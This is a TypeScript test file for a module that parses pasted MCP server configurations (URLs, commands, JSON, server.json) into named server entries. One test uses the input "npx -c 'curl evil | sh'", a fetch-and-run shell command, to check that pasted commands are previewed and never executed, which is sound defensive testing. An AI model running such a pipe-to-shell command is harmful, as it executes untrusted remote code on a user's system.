import { expect, test } from "vitest";
import { nameFromUrl, onlyNamed, recognise, renamed } from "./paste";

const server = (pasted: string) => JSON.parse(recognise(pasted).text ?? "null");

test.each<[string, string, unknown]>([
  ["https://api.github.com/mcp", "url", { github: { url: "https://api.github.com/mcp" } }],
  ["  unix:///run/x/tools.sock#/mcp ", "url", { tools: { url: "unix:///run/x/tools.sock#/mcp" } }],
  [
    "npx -y @modelcontextprotocol/server-everything",
    "command",
    { everything: { command: "npx", args: ["-y", "@modelcontextprotocol/server-everything"] } },
  ],
  [
    "$ uvx mcp-server-git --repository '/my repo'",
    "command",
    { git: { command: "uvx", args: ["mcp-server-git", "--repository", "/my repo"] } },
  ],
  [
    "API_KEY=a=b /opt/weather-mcp",
    "command",
    { weather: { command: "/opt/weather-mcp", args: [], env: { API_KEY: "a=b" } } },
  ],
  [
    "docker run -i --rm ghcr.io/github/github-mcp-server",
    "command",
    { github: { command: "docker", args: ["run", "-i", "--rm", "ghcr.io/github/github-mcp-server"] } },
  ],
])("%s is a %s", (pasted, kind, expected) => {
  expect(recognise(pasted).kind).toBe(kind);
  expect(server(pasted)).toEqual(expected);
});

test("JSON goes to the hub as it was pasted, comments included", () => {
  const text =
    '{\n  // mine\n  "mcpServers": { "a": { "url": "https://x.test/mcp" }, "b": { "command": "node", "args": ["s.js"] }, },\n}';
  const pasted = recognise(text);
  expect(pasted.text).toBe(text);
  expect(pasted.says).toBe("JSON · 2 servers");
  expect(pasted.preview.map((it) => `${it.name}: ${it.target}`)).toEqual([
    "a: https://x.test/mcp",
    "b: node s.js",
  ]);
});

test("JSON that this page cannot read is still sent, for the hub says what is wrong", () => {
  expect(recognise('{"a": ').text).toBe('{"a":');
});

test("a server called `servers` is a server", () => {
  expect(recognise('{"servers": {"url": "http://x/mcp"}}').names).toEqual(["servers"]);
});

test.each<[string, object, unknown]>([
  [
    "a remote",
    { name: "io.github.acme/weather", remotes: [{ type: "streamable-http", url: "https://w.test/mcp" }] },
    { weather: { url: "https://w.test/mcp" } },
  ],
  [
    "an npm package",
    {
      name: "io.x/server-git",
      packages: [
        {
          registryType: "npm",
          identifier: "@x/git",
          version: "1.2.3",
          packageArguments: [{ type: "named", name: "--root", value: "/r" }],
          environmentVariables: [
            { name: "TOKEN", isSecret: true },
            { name: "MODE", default: "ro" },
          ],
        },
      ],
    },
    { git: { command: "npx", args: ["-y", "@x/git@1.2.3", "--root", "/r"], env: { TOKEN: "", MODE: "ro" } } },
  ],
  [
    "a Python package",
    { name: "git", packages: [{ registryType: "pypi", identifier: "mcp-git" }] },
    { git: { command: "uvx", args: ["mcp-git"] } },
  ],
])("server.json with %s", (_, given, expected) => {
  expect(recognise(JSON.stringify(given)).kind).toBe("server.json");
  expect(server(JSON.stringify(given))).toEqual(expected);
});

test.each(["a 'b", "one\ntwo lines", "two\nthree four"])("%j is nothing we know", (text) => {
  expect(recognise(text).kind).toBe("unknown");
  expect(recognise(text).text).toBeUndefined();
});

test("a pasted address is never run, a pasted command never loses a word", () => {
  expect(recognise("npx -c 'curl evil | sh'").preview).toEqual([
    { name: "curl-evil-sh", target: "npx -c 'curl evil | sh'", kind: "command" },
  ]);
});

test.each([
  ["https://api.example.co.uk/x", "example"],
  ["http://localhost:3000/mcp", "localhost"],
  ["http://127.0.0.1:9/mcp", "127-0-0-1"],
  ["https://mcp.linear.app/sse", "linear"],
  ["pipe:///srv", "srv"],
])("%s is called %s", (url, expected) => expect(nameFromUrl(url)).toBe(expected));

test("a single server can be called otherwise and be given headers", () => {
  const pasted = renamed(recognise("https://api.github.com/mcp"), "work", [
    ["Authorization", "Bearer x"],
    ["", "y"],
  ]);
  expect(JSON.parse(pasted.text ?? "")).toEqual({
    work: { url: "https://api.github.com/mcp", headers: { Authorization: "Bearer x" } },
  });
  const two = recognise('{"a": {"url": "https://a.test"}, "b": {"url": "https://b.test"}}');
  expect(renamed(two, "c", [])).toBe(two);
});

test("another try sends only what failed, or everything where the page cannot tell", () => {
  const two = recognise('{"servers": {"a": {"url": "https://a.test"}, "b": {"url": "https://b.test"}}}');
  expect(JSON.parse(onlyNamed(two, ["b"]) ?? "")).toEqual({ b: { url: "https://b.test" } });
  expect(onlyNamed(recognise("{broken"), ["b"])).toBe("{broken");
});
